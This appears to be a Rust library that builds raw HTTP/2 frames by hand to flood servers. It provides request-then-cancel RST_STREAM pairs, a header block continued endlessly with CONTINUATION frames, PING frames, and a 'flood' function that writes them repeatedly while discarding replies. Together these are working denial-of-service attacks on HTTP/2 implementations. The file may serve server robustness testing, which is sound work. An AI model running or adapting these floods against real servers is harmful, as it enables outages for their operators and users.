//! HTTP/2 by hand: frames that no decent client sends.

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What a connection begins with.
pub fn preface() -> Vec<u8> {
    let mut wire = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut wire, SETTINGS, 0, 0, &[]);
    wire
}

pub fn frame(wire: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    wire.extend_from_slice(&length[1..]);
    wire.extend([kind, flags]);
    wire.extend(stream.to_be_bytes());
    wire.extend_from_slice(payload);
}

/// `GET http://<host><path>`, with HPACK's static table and no entry of the dynamic one.
pub fn get(wire: &mut Vec<u8>, stream: u32, host: &str, path: &str) {
    let mut block = vec![0x82, 0x86];
    for (name, value) in [(1, host), (4, path)] {
        block.extend([name, u8::try_from(value.len()).unwrap_or(0)]);
        block.extend_from_slice(value.as_bytes());
    }
    frame(wire, HEADERS, END_HEADERS | END_STREAM, stream, &block);
}

pub fn reset(wire: &mut Vec<u8>, stream: u32) {
    const CANCEL: u32 = 8;
    frame(wire, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
}

/// A header block that begins and never ends: what to send first, and what to send again and again.
pub fn endless_headers() -> (Vec<u8>, Vec<u8>) {
    let mut first = preface();
    frame(&mut first, HEADERS, END_STREAM, 1, &[0x82, 0x86]);
    // A literal header that is not indexed: `x: xxx…`.
    let mut block = vec![0x00, 1, b'x', 0x7f, 0xa1, 0x0e];
    block.resize(block.len() + 127 + 1825, b'x');
    let mut next = Vec::new();
    frame(&mut next, CONTINUATION, 0, 1, &block);
    (first, next)
}

pub fn ping(wire: &mut Vec<u8>) {
    frame(wire, PING, 0, 0, &[0; 8]);
}

/// Writes `wire` `times` times or until the other side closes; the bytes that were taken. What comes back is read and
/// thrown away.
pub async fn flood(stream: TcpStream, first: Vec<u8>, wire: Vec<u8>, times: usize) -> Flooded {
    let (mut read, mut write) = stream.into_split();
    let reading = tokio::spawn(async move {
        let mut buffer = vec![0; 16 << 10];
        while matches!(read.read(&mut buffer).await, Ok(count) if count > 0) {}
    });
    let mut taken = 0;
    let mut closed = write.write_all(&first).await.is_err();
    for _ in 0..times {
        if closed {
            break;
        }
        closed = write.write_all(&wire).await.is_err() || reading.is_finished();
        taken += wire.len();
    }
    if closed {
        reading.abort();
    }
    Flooded {
        taken,
        reading,
        _write: write,
    }
}

/// A connection that was flooded.
pub struct Flooded {
    /// Bytes that the other side took, those in the kernel's buffers included.
    pub taken: usize,
    /// Ends when the other side has closed.
    pub reading: tokio::task::JoinHandle<()>,
    _write: tokio::net::tcp::OwnedWriteHalf,
}
